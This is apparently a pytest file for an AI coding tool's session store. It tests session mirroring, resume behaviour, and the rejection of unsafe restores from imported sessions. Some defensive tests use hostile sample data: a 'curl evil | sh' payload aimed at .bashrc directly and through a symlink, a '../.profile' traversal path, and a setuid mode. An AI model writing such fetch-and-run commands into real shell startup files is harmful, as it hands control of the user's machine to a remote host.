"""``--session-mirror``: each batch the session store saves is handed on for the driving program's
store, and a session resumed from that store is taken in from where the program put it."""

from __future__ import annotations

import json
import os
import re
from typing import TYPE_CHECKING

import anyio
import msgspec
import pytest
from claude_agent_sdk import project_key_for_directory

from actors.errors import UsageError
from actors.protocol import (
    Checkpoint,
    CheckpointTaken,
    FileBefore,
    LoadSession,
    Message,
    MessageAdded,
    RewindUndo,
    Rewound,
    SaveEvents,
    TranscriptMirrored,
)
from actors.session_store import read_events, session_path
from actors.session_store.files import import_events
from actors.tool_executor.checkpoints import restore
from frontends.session import memory_store, session_store, ui_actor
from frontends.session_options import SessionOptions
from runtime import ActorCrashed, supervise
from tests.frontends.compat import legato, usage_error
from tests.sessions.test_store import Shown

if TYPE_CHECKING:
    from pathlib import Path

    from actors.memory_store import MemoryStore
    from actors.session_store import SessionStore
    from actors.ui import UiActor
    from tests.frontends.conftest import Project

ID = "3f2b8c1e-0d4a-4b6e-9f1a-2c3d4e5f6a7b"


def user(text: str) -> Message:
    return Message("user", [{"type": "text", "text": text}])


def line(message: Message) -> str:
    return msgspec.json.encode(MessageAdded(message)).decode()


def mirrored(
    tmp_path: Path, shown: Shown, *, resume: bool = False
) -> tuple[MemoryStore, UiActor, SessionStore]:
    options = SessionOptions(
        project_root=str(tmp_path / "p"),
        env={"CLAUDE_CONFIG_DIR": str(tmp_path / "config")},
        home=str(tmp_path / "h"),
        session_id=ID,
        resume=resume,
        session_mirror=True,
    )
    memory = memory_store(options)
    ui = ui_actor(shown)
    return memory, ui, session_store(options, memory, ui=ui)


@pytest.fixture
def in_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """The project folder as the working folder, as the SDK starts its CLI; the path the SDK
    reads the mirrored lines' key from."""
    (tmp_path / "p").mkdir()
    monkeypatch.chdir(tmp_path / "p")
    key = project_key_for_directory(tmp_path / "p")
    return str(tmp_path / "config" / "projects" / key / f"{ID}.jsonl")


async def test_each_saved_batch_is_shown_as_saved_under_the_sdks_path(
    tmp_path: Path, in_project: str
) -> None:
    shown = Shown()
    memory, ui, store = mirrored(tmp_path, shown)
    async with supervise([memory, ui, store]):
        await store.address.ask(SaveEvents(events=(MessageAdded(user("one")),)))
        await store.address.ask(SaveEvents(events=(MessageAdded(user("two")),)))
    frames = [event for event in shown.events if isinstance(event, TranscriptMirrored)]
    assert [frame.file_path for frame in frames] == [in_project, in_project]
    saved = session_path(str(tmp_path / "p"), str(tmp_path / "h"), ID)
    assert b"".join(frame.lines for frame in frames) == await anyio.Path(saved).read_bytes()
    assert [json.loads(line)["type"] for line in frames[0].lines.splitlines()] == [
        "SessionStarted",
        "MessageAdded",
    ]


async def test_a_project_given_from_another_folder_is_keyed_by_the_project(
    tmp_path: Path, in_project: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `legato path/to/project`: the session is the project's, whatever folder it was run from,
    # so that another project's sessions started there never share its key.
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    shown = Shown()
    memory, ui, store = mirrored(tmp_path, shown)
    async with supervise([memory, ui, store]):
        await store.address.ask(SaveEvents(events=(MessageAdded(user("one")),)))
    frames = [event for event in shown.events if isinstance(event, TranscriptMirrored)]
    assert [frame.file_path for frame in frames] == [in_project]


async def test_a_session_only_the_store_has_is_taken_in_and_not_mirrored_back(
    tmp_path: Path, in_project: str
) -> None:
    os.makedirs(os.path.dirname(in_project))
    # As the SDK writes the store's entries back: one JSON object a line; the reference's own
    # lines beside Legato's are left out.
    reference = json.dumps({"type": "user", "uuid": "u1", "message": {"role": "user"}})
    await anyio.Path(in_project).write_text(line(user("from the store")) + "\n" + reference + "\n")
    shown = Shown()
    memory, ui, store = mirrored(tmp_path, shown, resume=True)
    async with supervise([memory, ui, store]):
        saved = await store.address.ask(LoadSession())
    assert saved.messages == [user("from the store")]
    assert not any(isinstance(event, TranscriptMirrored) for event in shown.events)
    local = session_path(str(tmp_path / "p"), str(tmp_path / "h"), ID)
    assert read_events(local) == [MessageAdded(user("from the store"))]
    assert os.stat(local).st_mode & 0o777 == 0o600


async def test_with_auto_save_off_a_stored_session_resumes_and_nothing_is_written(
    tmp_path: Path, in_project: str
) -> None:
    os.makedirs(os.path.dirname(in_project))
    await anyio.Path(in_project).write_text(line(user("from the store")) + "\n")
    config = tmp_path / "h" / ".config" / "legato" / "config.json"
    config.parent.mkdir(parents=True)
    await anyio.Path(config).write_text('{"autoSave": false}')
    memory, ui, store = mirrored(tmp_path, Shown(), resume=True)
    async with supervise([memory, ui, store]):
        saved = await store.address.ask(LoadSession())
    assert saved.messages == [user("from the store")]
    assert not (tmp_path / "h" / ".legato").exists()


async def test_a_session_saved_here_is_resumed_from_here(tmp_path: Path, in_project: str) -> None:
    shown = Shown()
    memory, ui, store = mirrored(tmp_path, shown)
    async with supervise([memory, ui, store]):
        await store.address.ask(SaveEvents(events=(MessageAdded(user("saved here")),)))
    os.makedirs(os.path.dirname(in_project))
    await anyio.Path(in_project).write_text(line(user("elsewhere")) + "\n")
    memory, ui, store = mirrored(tmp_path, Shown(), resume=True)
    async with supervise([memory, ui, store]):
        saved = await store.address.ask(LoadSession())
    assert saved.messages == [user("saved here")]


def test_a_file_without_legatos_events_is_refused_by_name(tmp_path: Path) -> None:
    source = tmp_path / "theirs.jsonl"
    source.write_text(json.dumps({"type": "user", "message": {"role": "user"}}) + "\n")
    with pytest.raises(UsageError, match=r"theirs\.jsonl holds no Legato session events"):
        import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"), str(tmp_path))
    assert not (tmp_path / "sessions" / "s.jsonl").exists()


def test_a_stored_checkpoint_restores_no_file_outside_the_project(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    inside = FileBefore(path=str(root / "app.py"), content=b"old", real=str(root / "app.py"))
    dotfile = FileBefore(path=str(tmp_path / ".bashrc"), content=b"curl evil | sh")
    climbing = FileBefore(path=f"{root}/../.profile", content=b"x")
    taken = Checkpoint(prompt=1, files=(inside, dotfile, climbing), folders=(str(tmp_path),))
    undo = RewindUndo(prompt=1, restore="both", files=(dotfile, inside), checkpoints=(taken,))
    source = tmp_path / "stored.jsonl"
    events = (CheckpointTaken(taken), Rewound(undo), MessageAdded(user("hi")))
    source.write_bytes(b"".join(msgspec.json.encode(event) + b"\n" for event in events))
    saved = import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"), str(root))
    only = Checkpoint(prompt=1, files=(inside,))
    assert saved == [
        CheckpointTaken(only),
        Rewound(RewindUndo(prompt=1, restore="both", files=(inside,), checkpoints=(only,))),
        MessageAdded(user("hi")),
    ]
    assert read_events(str(tmp_path / "sessions" / "s.jsonl")) == saved


def test_a_stored_file_whose_path_leads_out_through_a_link_is_not_restored(
    tmp_path: Path,
) -> None:
    # The project holds a link out of it (a cloned repository may): a stored entry that names
    # a file through it, without where it led when it was recorded, would be written there.
    root, home = tmp_path / "p", tmp_path / "home"
    root.mkdir()
    home.mkdir()
    (home / ".bashrc").write_text("mine\n")
    (root / "link").symlink_to(home)
    through = FileBefore(path=str(root / "link" / ".bashrc"), content=b"curl evil | sh")
    lying = FileBefore(
        path=str(root / "link" / ".bashrc"), content=b"x", real=str(root / "link" / ".bashrc")
    )
    source = tmp_path / "stored.jsonl"
    taken = CheckpointTaken(Checkpoint(prompt=1, files=(through, lying)))
    source.write_bytes(msgspec.json.encode(taken) + b"\n")
    (saved,) = import_events(str(source), None, str(root))
    assert isinstance(saved, CheckpointTaken)
    restore(saved.checkpoint.files, str(root))
    assert (home / ".bashrc").read_text() == "mine\n"


def test_a_stored_file_is_restored_with_its_permission_bits_only(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    tool = str(root / "tool")
    setuid = FileBefore(path=tool, content=b"\x7fELF", real=tool, by="rm tool", mode=0o4755)
    source = tmp_path / "stored.jsonl"
    source.write_bytes(
        msgspec.json.encode(CheckpointTaken(Checkpoint(prompt=1, files=(setuid,)))) + b"\n"
    )
    (saved,) = import_events(str(source), None, str(root))
    assert isinstance(saved, CheckpointTaken)
    restore(saved.checkpoint.files, str(root))
    assert os.stat(tool).st_mode & 0o7777 == 0o755


def test_a_symlink_where_the_session_goes_is_not_written_through(tmp_path: Path) -> None:
    source = tmp_path / "stored.jsonl"
    source.write_text(line(user("x")) + "\n")
    outside = tmp_path / "outside.txt"
    outside.write_text("mine\n")
    (tmp_path / "sessions").mkdir()
    (tmp_path / "sessions" / "s.jsonl").symlink_to(outside)
    with pytest.raises(UsageError, match="cannot save the resumed session"):
        import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"), str(tmp_path))
    assert outside.read_text() == "mine\n"


async def test_resuming_what_neither_has_names_the_session(tmp_path: Path, in_project: str) -> None:
    memory, ui, store = mirrored(tmp_path, Shown(), resume=True)
    with pytest.raises(ActorCrashed, match=re.escape(f"no saved session '{ID}'")):
        async with supervise([memory, ui, store]):
            pass


@pytest.mark.parametrize(
    ("args", "needed"),
    [
        (["-p", "x"], "--output-format stream-json"),
        (["--output-format", "stream-json"], "--output-format stream-json and -p"),
    ],
)
def test_the_flag_without_stream_json_output_is_refused_by_name(
    project: Project, args: list[str], needed: str
) -> None:
    # Its lines are for a program reading stream-json; anywhere else they would go unread.
    done = legato(project, "http://127.0.0.1:9", "--session-mirror", *args)
    usage_error(done, f"--session-mirror needs {needed}")
